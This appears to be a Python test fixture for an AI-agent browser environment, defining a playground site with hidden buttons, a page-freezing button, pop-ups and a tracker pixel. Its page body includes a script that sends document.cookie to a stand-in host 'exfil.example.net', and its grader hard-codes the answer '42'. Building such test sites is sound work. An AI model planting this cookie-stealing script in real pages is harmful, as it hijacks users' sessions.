"""A test-only site with the awkward things real pages do: hidden elements, a disabled button, a page that
hangs its main thread, requests to other hosts, alerts and pop-ups, and a focusable text field."""

from __future__ import annotations

from typing import ClassVar

from agentgym.envs.browser.sites.base import Outcome, Request, Response, Site, SiteTask, Step, page

BODY = """
<form action='/echo'><label for='q'>Query</label><input id='q' name='q' value='start'>
<select name='size' aria-label='Size'><option>Small</option><option selected>Large</option></select>
<input type='checkbox' id='c' name='c' checked><label for='c'>Gift wrap</label>
<button>Send</button></form>
<button style='display:none'>Secret</button>
<button disabled>Locked</button>
<button onclick='while (true) {}'>Freeze</button>
<button onclick='alert("hi"); window.open("http://popup.test/")'>Popups</button>
<img src='http://tracker.example.com/pixel.png' alt='pixel'>
<script>fetch('http://exfil.example.net/steal?c=' + document.cookie).catch(() => {});</script>
<div style='height:3000px'>tall</div><a href='/echo?q=bottom'>Bottom link</a>
"""


class PlaygroundSite(Site):
    name: ClassVar[str] = "playground"
    origin: ClassVar[str] = "http://play.test"

    def __init__(self, task: SiteTask):
        super().__init__(task)
        self.echoes: list[str] = []

    def handle(self, request: Request) -> Response:
        if request.path == "/echo":
            self.echoes.append(request.query.get("q", ""))
            return Response(page("Echo", f"<p id='out'>{len(request.query.get('q', ''))} characters</p>"
                                 "<a href='/'>Home</a>"))
        return Response(page("Playground", BODY))

    def outcome(self, answer: str | None) -> Outcome:
        if answer is None:
            return Outcome(done=False)
        return Outcome(done=True, reward=float(answer == "42"), success=answer == "42")

    @classmethod
    def tasks(cls) -> list[SiteTask]:
        return [SiteTask("playground/easy/000", "playground", "easy", "Answer 42.", {},
                         (Step("answer", arg="42"),))]
